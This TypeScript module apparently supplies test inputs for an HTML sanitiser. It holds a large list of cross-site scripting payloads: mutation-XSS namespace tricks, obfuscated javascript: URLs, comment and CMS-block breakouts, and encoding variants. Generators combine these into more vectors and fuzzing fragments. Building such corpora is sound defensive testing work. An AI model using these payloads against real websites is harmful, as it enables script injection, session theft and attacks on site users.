// Attack forms for the sanitiser: well-known shapes, and their combinations.

const PAYLOADS = ['alert(1)', 'confirm`1`', 'top[8680439..toString(30)](1)'];

const HANDLERS = ['onerror', 'onload', 'onclick', 'onfocus', 'onmouseover', 'ontoggle', 'onanimationstart', 'onpointerenter', 'onbegin', 'onwheel'];

const CARRIERS = ['img src=x', 'svg', 'body', 'details open', 'video', 'audio src=x', 'input autofocus', 'marquee', 'div', 'p', 'a href=#', 'table', 'x'];

const SPACES = [' ', '/', '\t', '\n', '\f', '/ /', ' "" ', " x='' "];

const SCHEMES = [
  'javascript:alert(1)', 'JaVaScRiPt:alert(1)', ' javascript:alert(1)', 'java\tscript:alert(1)', 'java\nscript:alert(1)', '\u0001javascript:alert(1)',
  'javascript&colon;alert(1)', 'javascript&#58;alert(1)', 'javascript&#x3A;alert(1)', '&#106;avascript:alert(1)', '&#x6a;avascript:alert(1)',
  'java&#x0A;script:alert(1)', 'java&Tab;script:alert(1)', '&NewLine;javascript:alert(1)', 'javascript&#0000058alert(1)', '\u00A0javascript:alert(1)',
  'vbscript:msgbox(1)', 'livescript:x', 'data:text/html,<script>alert(1)</script>', 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg onload=alert(1)>', 'data:application/xhtml+xml,x', 'blob:https://x/1', 'filesystem:x', 'feed:javascript:alert(1)/../',
  '\u200Bjavascript:alert(1)', 'javascript\u00AD:alert(1)', '\uFEFFjavascript:alert(1)', 'jar:x', 'about:blank', 'view-source:x', 'ws://x',
];

const URL_CARRIERS: readonly ((url: string) => string)[] = [
  (url) => `<a href="${url}">x</a>`, (url) => `<a href='${url}'>x</a>`, (url) => `<img src="${url}">`, (url) => `<form action="${url}"><button>x`,
  (url) => `<iframe src="${url}"></iframe>`, (url) => `<video poster="${url}" src="${url}">`, (url) => `<blockquote cite="${url}">x`,
  (url) => `<math href="${url}">x</math>`, (url) => `<svg><a xlink:href="${url}"><text>x</text></a></svg>`, (url) => `<object data="${url}">`,
];

/** Raw text elements: some parsers read their content as markup, others as text. */
const RAW = ['style', 'script', 'xmp', 'iframe', 'noembed', 'noframes', 'noscript', 'textarea', 'title', 'plaintext', 'template', 'select', 'listing'];

const KNOWN = [
  '<script>alert(1)</script>', '<SCRIPT SRC=//x/x.js></SCRIPT>', '<scr<script>ipt>alert(1)</scr</script>ipt>', '<script/src=x>', '<script\n>alert(1)</script\n>',
  '<<script>alert(1);//<</script>', '<script>alert(1)', '<script x', '<script', '</script><script>alert(1)</script>', '<scr\0ipt>alert(1)</scr\0ipt>',
  '"><img src=x onerror=alert(1)>', "'\"><svg onload=alert(1)>", '<img src=x onerror=alert(1)', '<img src="x` `<script>alert(1)</script>"` `>',
  '<img src=x onerror="&#97;lert(1)">', '<img """><script>alert(1)</script>">', '<img src=x:alert(alt) onerror=eval(src) alt=1>', '<img/src/onerror=alert(1)>',
  '<img src=x onerror\n=\nalert(1)>', '<img src=x onerror\u00A0=alert(1)>', '<img src=x oneonerrorrror=alert(1)>', '<img srcset="javascript:alert(1) 1x">',
  '<img srcset="x 1x, javascript:alert(1) 2x">', '<img src=x style="background:url(javascript:alert(1))">', '<img dynsrc="javascript:alert(1)">', '<img lowsrc="javascript:alert(1)">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">', '<base href="javascript:alert(1)//">', '<link rel=stylesheet href=//x>', '<embed src=//x/x.swf>',
  '<object data=x><param name=src value=x></object>', '<applet code=x>', '<frameset onload=alert(1)><frame src=x>', '<bgsound src="javascript:alert(1)">', '<layer src=//x>',
  '<isindex action=javascript:alert(1) type=image>', '<keygen autofocus onfocus=alert(1)>', '<portal src=//x>', '<dialog open onclose=alert(1)>', '<slot onslotchange=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>">', '<iframe/onload=alert(1)>', '<form><button formaction=javascript:alert(1)>x', '<input type=image src=x onerror=alert(1)>',
  '<isindex prompt="x" formaction=javascript:alert(1)>', '<textarea autofocus onfocus=alert(1)>', '<select autofocus onfocus=alert(1)>', '<button popovertarget=x>y</button>',
  '<svg><script>alert(1)</script></svg>', '<svg><style><img src=x onerror=alert(1)></style></svg>', '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><set attributeName=href to=javascript:alert(1)>', '<svg><use href="data:image/svg+xml,<svg id=x><script>alert(1)</script></svg>#x">', '<svg><foreignObject><iframe src=x>',
  '<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>x</text></a></svg>', '<svg><title><script>alert(1)</script></title></svg>', '<svg><desc><img src=x onerror=alert(1)></desc>',
  '<math><mi xlink:href="data:x,<script>alert(1)</script>">x</mi></math>', '<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>', '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<svg></p><title><a id="</title><img src=1 onerror=alert(1)>">', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', '<noembed><img title="</noembed><img src onerror=alert(1)>">',
  '<textarea><img title="</textarea><img src onerror=alert(1)>">', '<xmp><p title="</xmp><svg/onload=alert(1)>">', '<style><a title="</style><img src=x onerror=alert(1)>">',
  '<template><s><template><s><img src=x onerror=alert(1)>x</s></template>', '<select><template><img src=x onerror=alert(1)></template></select>', '<select><style></select><img src=x onerror=alert(1)>',
  '<table><td><svg><desc><table><style><img src=x onerror=alert(1)>', '<a id=x tabindex=1 onfocus=alert(1)>', '<p id="<img src=x onerror=alert(1)>">', '<p title="</p><script>alert(1)</script>">',
  '<p title="&lt;/p&gt;&lt;img src=x onerror=alert(1)&gt;">', '&lt;script&gt;alert(1)&lt;/script&gt;', '&lt;img src=x onerror=alert(1)&gt;', '<p>&#60;script&#62;alert(1)&#60;/script&#62;',
  '<!--><img src=x onerror=alert(1)>-->', '<!---><img src=x onerror=alert(1)>-->', '<!--!><img src=x onerror=alert(1)>-->', '<!-- --!><img src=x onerror=alert(1)>-->', '<!-- <!-- --><img src=x onerror=alert(1)>-->',
  '<!--[if IE]><script>alert(1)</script><![endif]-->', '<![CDATA[<img src=x onerror=alert(1)>]]>', '<?xml version="1.0"?><script>alert(1)</script>', '<!DOCTYPE x [<!ENTITY y "<script>alert(1)</script>">]>&y;',
  '<? <img src=x onerror=alert(1)> ?>', '</ <img src=x onerror=alert(1)> >', '<! <img src=x onerror=alert(1)> >', '<%<!--\'%><script>alert(1)</script -->',
  '<!-- cms:paragraph {"a":"--><img src=x onerror=alert(1)>"} -->', '<!-- cms:html {"a":"--!><script>alert(1)</script>"} -->', '<!-- cms:x {"a":"<!--"} --><script>alert(1)</script><!-- /cms:x -->',
  '<!-- cms:paragraph {"a":"<script>alert(1)</script>"} /-->', '<!-- cms:paragraph --!><script>alert(1)</script>', '<!--more --><script>alert(1)</script>', '<!--more ><img src=x onerror=alert(1)>-->',
  '<p style="background:url(javascript:alert(1))">', '<p style="width:expression(alert(1))">', '<p style="behavior:url(x.htc)">', '<p style="-moz-binding:url(x)">', '<p style="x:\\65xpression(alert(1))">',
  '<p style="background:u/**/rl(javascript:alert(1))">', '<p style="background:url(\'java\\script:alert(1)\')">', '<p style="color:red;}</style><script>alert(1)</script>">', '<p style="background-image:url(data:image/svg+xml,<svg/onload=alert(1)>)">',
  '<p style="@import \'//x\'">', '<p style="position:fixed;top:0;left:0;width:100%;height:100%">', '<style>@import "javascript:alert(1)";</style>', '<style>*{x:expression(alert(1))}</style>', '<p style="--wp--x:url(javascript:alert(1))">',
  '<a href="javascript:alert(1)" href="x">', '<a HREF=javascript:alert(1)>', '<a href=javascript:alert(1)//https://x>', '<a href="//x" ping="javascript:alert(1)">', '<a xlink:href="javascript:alert(1)">', '<a href="javascript\u2028:alert(1)">',
  '<div data-x="</div><script>alert(1)</script>" aria-x="\'><img onerror=alert(1)>">', '<div data-"onclick=alert(1)="x">', '<p on\u0000click=alert(1)>', '<p ONCLICK=alert(1)>', '<p =onclick=alert(1)>', '<p "onclick=alert(1)">', '<p x=`>`onclick=alert(1)>',
  '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>', '<custom-element onclick=alert(1) is=x>', '<div is="x-y" slot=a part=b nonce=c>', '<p contenteditable onfocus=alert(1) autofocus>', '<b><p><a><svg><b></p></a><script>alert(1)',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-', '\u00BCscript\u00BEalert(1)\u00BC/script\u00BE', '＜script＞alert(1)＜/script＞', '<ſcript>alert(1)</ſcript>', '<ı onclick=alert(1)>', '<\u0130mg src=x onerror=alert(1)>',
];

function* combine(): Generator<string> {
  for (const [index, handler] of HANDLERS.entries()) {
    for (const [place, carrier] of CARRIERS.entries()) {
      const space = SPACES[(index + place) % SPACES.length] ?? ' ';
      yield `<${carrier}${space}${handler}=${PAYLOADS[place % PAYLOADS.length]}>x`;
    }
  }
  for (const url of SCHEMES) for (const carrier of URL_CARRIERS) yield carrier(url);
  for (const name of RAW) {
    yield `<${name}><img src=x onerror=alert(1)></${name}>`;
    yield `<${name}><p title="</${name}><img src=x onerror=alert(1)>">`;
    yield `<svg><${name}><img src=x onerror=alert(1)></${name}></svg>`;
    yield `<math><mtext><${name}><!--</${name}><img title="--><img src=x onerror=alert(1)>">`;
    yield `<${name}><!--</${name}><script>alert(1)</script>-->`;
    yield `<table><${name}><tr><td></${name}><img src=x onerror=alert(1)>`;
  }
}

/** All forms without duplicates. */
export const VECTORS: readonly string[] = [...new Set([...KNOWN, ...combine()])];

/** Pieces of which random fragments are composed. */
export const PIECES: readonly string[] = [
  ...RAW.flatMap((name) => [`<${name}>`, `</${name}>`]), '<p>', '</p>', '<div>', '</div>', '<b>', '</b>', '<a href="', '<table>', '<tr>', '<td>', '</table>', '<svg>', '</svg>', '<math>',
  '<mtext>', '<mglyph>', '<form>', '</form>', '<ul>', '<li>', '</ul>', '<img src=x onerror=alert(1)>', '<p title="', '">', "'", '"', '`', '<!--', '-->', '--!>', '<!-- cms:paragraph -->',
  '<!-- /cms:paragraph -->', '<!-- cms:x {"a":"', '"} /-->', '<!--more-->', '<?', '<![CDATA[', ']]>', '&lt;', '&amp;', '&#60;', '&', '<', '>', '</', '/>', '=', ' onclick=alert(1) ', 'javascript:', ' style="color:red;',
  'background:url(', ')', ';', '\\', 'text', '\u00A0', '\0', '\r\n', '日', '🚀', '\uD800', 'é', '{', '}', '--', '/*', '<dl><dt>', '<dd>', '<br/>', '<hr>',
];
